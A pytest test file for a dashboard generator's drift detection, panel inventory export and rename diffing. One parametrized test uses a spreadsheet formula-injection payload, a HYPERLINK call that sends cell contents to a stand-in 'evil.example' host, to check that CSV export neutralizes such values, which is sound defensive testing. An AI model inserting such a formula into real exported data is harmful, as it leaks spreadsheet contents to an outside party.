"""Drift and inventory: each kind of difference gives its own word, and nothing else does."""

from __future__ import annotations

import copy
import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend_server.errors import InvalidInput
from backend_server.generator.output.assemble import Generated, generate
from backend_server.generator.output.coverage import find_coverage
from backend_server.generator.output.drift import drift_lines, find_drift, find_left_over
from backend_server.generator.output.inventory import (
    Entry,
    Renamed,
    diff_inventory,
    read_inventory,
    take_inventory,
    write_inventory,
)
from backend_server.generator.spec.plans import SHIPPED_PLANS
from backend_server.generator.spec.spec import Spec


@pytest.fixture
def bus(base_spec: Spec) -> Generated:
    return generate(next(plan for plan in SHIPPED_PLANS if plan.slug == "bus_health"), base_spec)


def tokens(wanted: Any, existing: Any, verbose: bool = False) -> Any:
    return drift_lines(find_drift([wanted], {wanted.plan.slug: existing}), verbose=verbose)


def test_an_equal_file_is_no_drift(bus: Generated) -> None:
    assert tokens(bus, copy.deepcopy(bus.document)) == []


def test_layout_ids_and_metadata_are_no_drift(bus: Generated) -> None:
    existing = copy.deepcopy(bus.document)
    existing["panels"].reverse()
    existing["refresh"] = "1m"
    for number, panel in enumerate(existing["panels"]):
        panel["id"] = number + 1
        panel["gridPos"] = {"x": 0, "y": number, "w": 3, "h": 3}
        panel["description"] = "changed by hand"

    assert tokens(bus, existing) == []


def test_each_kind_of_drift_has_its_token_count_and_titles(bus: Generated) -> None:
    existing = copy.deepcopy(bus.document)
    del existing["panels"][3]
    existing["panels"][1]["targets"][0]["expr"] = "up"
    existing["panels"][2]["title"] = "Another"
    existing["panels"].append({"type": "stat", "title": "By hand", "targets": [{"expr": "x", "refId": "A"}]})
    titles = [panel["title"] for panel in bus.document["panels"]]

    lines = tokens(bus, existing, verbose=True)

    assert lines[:3] == ["changed:bus_health:2", "added:bus_health:1", "removed:bus_health:1"]
    assert lines[3] == "DRIFT_DETAILS_BEGIN"
    assert lines[5] == "DRIFT_DETAILS_END"
    assert f'"added_titles":["{titles[3]}"]' in lines[4]
    assert '"removed_titles":["By hand"]' in lines[4]


def test_only_the_surplus_of_a_copied_panel_counts(bus: Generated) -> None:
    existing = copy.deepcopy(bus.document)
    doubled = copy.deepcopy(existing["panels"][2])
    existing["panels"].append(doubled)
    assert tokens(bus, existing) == ["removed:bus_health:1"]

    existing["panels"] += [copy.deepcopy(doubled), {"type": "row", "panels": [copy.deepcopy(doubled)]}]
    assert tokens(bus, existing) == ["removed:bus_health:4"]  # three copies and a row


def test_of_panels_that_show_the_same_the_stranger_is_the_one_too_many(bus: Generated) -> None:
    existing = copy.deepcopy(bus.document)
    stranger = copy.deepcopy(existing["panels"][2])
    del stranger["g6_meta"]
    existing["panels"].insert(0, stranger)
    existing["panels"][3]["g6_meta"]["note"] = "kept"

    (drift,) = find_drift([bus], {"bus_health": existing})
    assert (drift.removed_titles, drift.changed_titles) == ((stranger["title"],), ())


def test_what_no_plan_makes_any_more_is_removed_with_all_its_panels(bus: Generated) -> None:
    foreign = {"title": "By hand", "panels": [{"type": "stat", "title": "x"}]}
    on_disk = {"bus_health": bus.document, "gone": bus.document, "foreign": foreign, "unreadable": None}
    (drift,) = find_left_over([bus.plan], on_disk)

    assert drift.tokens == (f"removed:gone:{len(bus.document['panels'])}",)
    assert drift.removed_titles == tuple(panel["title"] for panel in bus.document["panels"])


def test_a_missing_file_and_another_spec_have_tokens_of_their_own(bus: Generated) -> None:
    existing = copy.deepcopy(bus.document)
    existing["g6_meta"]["spec_hash"] = "0" * 16

    assert tokens(bus, None) == ["missing:bus_health"]
    assert tokens(bus, existing) == ["spec:bus_health"]


TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)


@given(
    st.lists(st.builds(Entry, TEXT, TEXT, TEXT, TEXT, TEXT), min_size=1, max_size=6), st.sampled_from(["csv", "jsonl"])
)
def test_an_inventory_survives_the_round_trip(entries: Any, form: Any) -> None:
    assert read_inventory(write_inventory(entries, form), what="x") == tuple(entries)


def test_commas_quotes_and_newlines_in_titles_survive() -> None:
    entries = (Entry("s", 'a,"b"\nc\r\nd', "m", "spec", "1"),)

    assert read_inventory(write_inventory(entries, "csv"), what="x") == entries


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        *("@SUM(1)", "+1", "-1", "\t=1", "\r=1", "'=1", "''@x", "'", "'plain", "a=b", "", "''"),
    ],
)
def test_no_field_is_a_formula_to_a_spreadsheet_and_all_come_back(title: str) -> None:
    entries = (Entry("s", title, "m", "spec", "1"),)
    written = write_inventory(entries, "csv")
    field = next(iter(list(csv.reader(io.StringIO(written, newline="")))[1:]))[1]
    assert not field.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert read_inventory(written, what="x") == entries
    assert read_inventory(write_inventory(entries, "jsonl"), what="x") == entries


def test_an_inventory_of_too_many_rows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("backend_server.generator.output.inventory.MOST_ROWS", 100)
    entries = [Entry("s", f"t{number}", "m", "spec", str(number)) for number in range(101)]
    for form in ("csv", "jsonl"):
        with pytest.raises(InvalidInput, match="has 101 rows; at most 100"):
            read_inventory(write_inventory(entries, form), what="x")
    assert len(read_inventory(write_inventory(entries[1:], "csv"), what="x")) == 100


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("a,b\n", 1),
        ('"never closed', 1),
        ('{"slug": 1}\n', 1),
        ('{"slug"\n', 1),
        ("slug,title,metric,source,panel_uuid\na\n", 2),
        ('slug,title,metric,source,panel_uuid\n"a', 2),
    ],
)
def test_a_bad_inventory_names_its_line(text: str, line: int) -> None:
    with pytest.raises(InvalidInput) as caught:
        read_inventory(text, what="old.csv")
    assert caught.value.problems[0].line == line


def test_a_keyed_rename_is_certain_and_an_unkeyed_one_inferred() -> None:
    before = [Entry("s", "Old", "m", "spec", "k1"), Entry("s", "Rate", "n", "auto_rate", "a")]
    after = [Entry("s", "New", "m", "spec", "k1"), Entry("s", "Speed", "n", "auto_rate", "b")]

    found = diff_inventory(before, after)

    assert found.renamed == (
        Renamed("k1", "Old", "New", "s"),
        Renamed("b", "Rate", "Speed", "s", inferred=True),
    )
    assert found.as_json()["renamed"][0] == {"panel_uuid": "k1", "old_title": "Old", "new_title": "New", "slug": "s"}
    assert found.as_json()["renamed"][1]["inferred"] is True
    assert (found.added, found.removed) == ((), ())


def test_equal_titles_are_no_rename() -> None:
    before = [Entry("s", "Rate", "m", "spec", "1")]
    found = diff_inventory(before, [Entry("s", "Rate", "m", "spec", "2")])

    assert (len(found.added), len(found.removed), found.renamed) == (1, 1, ())


def test_rows_of_one_uuid_are_compared_one_by_one() -> None:
    one, other = Entry("s", "A", "m", "spec", "k"), Entry("s", "B", "m", "spec", "k")

    assert diff_inventory([one], [one, one]).added == (one,)
    assert diff_inventory([one, one], [one]).removed == (one,)
    assert diff_inventory([one, other], [other, one]).empty
    found = diff_inventory([one, one], [other, one])
    assert (found.added, found.removed, found.renamed) == ((), (), (Renamed("k", "A", "B", "s"),))


@given(st.lists(st.builds(Entry, *[st.sampled_from("ab")] * 5), max_size=8))
def test_nothing_is_lost_whatever_is_doubled(entries: Any) -> None:
    assert len(diff_inventory([], entries).added) == len(diff_inventory(entries, []).removed) == len(entries)
    assert diff_inventory(entries, list(reversed(entries))).empty


def test_an_inventory_from_a_spreadsheet_has_a_mark_in_front() -> None:
    entries = (Entry("s", "a", "m", "spec", "1"),)

    assert read_inventory("\ufeff" + write_inventory(entries, "csv"), what="x") == entries
    assert read_inventory("\ufeff" + write_inventory(entries, "jsonl"), what="x") == entries


def test_coverage_knows_what_a_panel_was_made_for_and_takes_no_pattern_for_a_name(spec_of: Callable[..., Spec]) -> None:
    spec = spec_of({"name": "a", "kind": "gauge"}, {"name": "b", "kind": "gauge"})

    def panel(metric: Any, expr: Any) -> dict[str, Any]:
        return {"title": "T", "type": "stat", "g6_meta": {"metric": metric}, "targets": [{"expr": expr}]}

    def coverage(*panels: Any) -> Any:
        found = find_coverage(spec, {"s": {"panels": list(panels)}})
        return found.metrics_without_panel, found.panels_without_metric

    assert coverage(panel("a", "vector(1)"), panel("", "b")) == ((), ())
    assert coverage(panel("gone", "a + b")) == ((), ("s: T (gone)",))
    assert coverage(panel("a", '{__name__=~"a|zzz"} + {__name__!="yyy", x="1"}')) == (("b",), ())


def test_two_candidates_are_not_guessed_between() -> None:
    before = [Entry("s", "A", "m", "spec", "1"), Entry("s", "B", "m", "spec", "2")]
    after = [Entry("s", "C", "m", "spec", "3")]
    found = diff_inventory(before, after)

    assert (len(found.added), len(found.removed), found.renamed) == (1, 2, ())


def test_the_inventory_lists_generated_panels_and_can_be_filtered(bus: Generated) -> None:
    existing = {"bus_health": bus.document, "foreign": {"title": "x", "panels": [{"title": "y", "type": "stat"}]}}
    everything = take_inventory(existing)

    assert len(everything) == len(bus.document["panels"])
    assert {entry.source for entry in take_inventory(existing, sources=frozenset({"spec"}))} == {"spec"}
